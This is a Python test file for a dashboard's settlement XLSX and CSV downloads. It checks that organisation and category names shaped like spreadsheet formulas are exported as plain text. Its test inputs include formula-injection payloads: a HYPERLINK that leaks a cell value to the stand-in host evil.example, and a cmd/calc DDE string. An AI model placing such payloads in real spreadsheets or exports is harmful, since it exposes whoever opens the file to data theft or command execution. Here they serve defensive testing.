"""The settlement downloads cannot carry a spreadsheet formula (issue 11, item 9): an
organisation or category named like a formula is text in the XLSX (type 's', never
'f') and quoted in the CSV, while the money stays numbers."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime
from decimal import Decimal
from zoneinfo import ZoneInfo

import httpx
from openpyxl import load_workbook  # type: ignore[import-untyped]
from sqlalchemy.ext.asyncio import AsyncSession, async_sessionmaker

from services.parties import create_organisation, get_organisation
from services.settlement import OrganisationSettlement, Settlement, SettlementLine
from tests.web.dashboard.conftest import SignIn
from tests.web.dashboard.test_dashboard_pages import _rated
from web.dashboard.reports import settlement_csv_bytes, settlement_xlsx_bytes

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A3,"Pay here")'
NAMES = [HYPERLINK, "@SUM(A1:A9)", "+1+cmd|' /C calc'!A0", "-2+3"]
# create_organisation strips a name; these are stored as an edit might leave them.
RAW_NAMES = ["\t=1+1", "\r=2+2"]


async def _organisation(db: async_sessionmaker[AsyncSession], name: str) -> int:
    async with db() as session, session.begin():
        organisation, _ = await create_organisation(
            session, name="placeholder", categories=["housekeeping"], communities=None
        )
        organisation.name = name
        return organisation.id


def _all_cells(content: bytes) -> list[tuple[str, object, str]]:
    book = load_workbook(io.BytesIO(content))
    return [
        (sheet.title, cell.value, cell.data_type)
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.value is not None
    ]


async def test_formula_names_download_as_text_and_money_as_numbers(
    client: httpx.AsyncClient, signed_in: SignIn, db: async_sessionmaker[AsyncSession]
) -> None:
    names = NAMES + RAW_NAMES
    ids = [await _organisation(db, name) for name in names]
    for organisation_id in ids:
        await _rated(db, organisation_id, 4, "housekeeping")
    async with db() as session:
        stored = [(await get_organisation(session, i)).name for i in ids]
    assert stored == names
    await signed_in(language="en")
    today = datetime.now(ZoneInfo("Asia/Shanghai")).date().isoformat()
    period = {"from": today, "to": today}

    sheet = await client.get("/dashboard/settlement.xlsx", params=period)
    assert sheet.status_code == 200
    cells = _all_cells(sheet.content)
    assert [c for c in cells if c[2] == "f"] == []  # no formula anywhere
    book = load_workbook(io.BytesIO(sheet.content))
    tickets, summary = book.worksheets
    for name in names:
        shown = name.replace("\r", "\n")  # XML keeps no lone carriage return
        [line] = [r for r in tickets.iter_rows() if r[0].value == shown]
        assert line[0].data_type == "s"
        assert (line[6].data_type, isinstance(line[6].value, int | float)) == ("n", True)
        assert line[5].value == 4 and line[5].data_type == "n"
        [subtotal] = [r for r in tickets.iter_rows() if str(r[0].value).startswith(shown + " ")]
        assert subtotal[0].data_type == "s" and subtotal[6].data_type == "n"
        [total] = [r for r in summary.iter_rows() if r[0].value == shown]
        assert [c.data_type for c in total] == ["s", "n", "n", "n", "n"]

    text = (await client.get("/dashboard/settlement.csv", params=period)).content
    table = list(csv.reader(io.StringIO(text.decode("utf-8-sig"))))
    for name in names:
        [line] = [row for row in table if row[0] == "'" + name]
        assert Decimal(line[6]) > 0 and line[5] == "4"  # numbers, not quoted
        [subtotal] = [row for row in table if row[0].startswith("'" + name + " ")]
        assert subtotal[6] == line[6]
    assert not any(
        cell.lstrip(" \n").startswith(("=", "+", "-", "@", "\t", "\r"))
        for row in table
        for cell in row
    )


def test_category_names_like_formulas_are_text_too() -> None:
    line = SettlementLine(
        number="RO-310506-0001",
        category_code="odd",
        category_zh="=1+1",
        category_en="@SUM(A1)",
        done_at=datetime(2031, 5, 6, 2, tzinfo=UTC),
        closed_at=datetime(2031, 5, 6, 3, tzinfo=UTC),
        rating=None,
        unit_price=Decimal("-5.00"),  # a negative amount is still a number
    )
    result = Settlement(
        start=date(2031, 5, 1),
        end=date(2031, 5, 31),
        organisations=[OrganisationSettlement(1, "+cmd", [line])],
    )
    for lang, category in (("zh", "=1+1"), ("en", "@SUM(A1)")):
        cells = _all_cells(settlement_xlsx_bytes(result, lang, "Asia/Shanghai"))
        assert [c for c in cells if c[2] == "f"] == []
        assert (cells[0][0], category, "s") in cells
        assert (cells[0][0], -5, "n") in cells
        rows = list(
            csv.reader(
                io.StringIO(settlement_csv_bytes(result, lang, "Asia/Shanghai").decode("utf-8-sig"))
            )
        )
        assert rows[1][:3] == ["'+cmd", "RO-310506-0001", "'" + category]
        assert rows[1][6] == "-5.00"
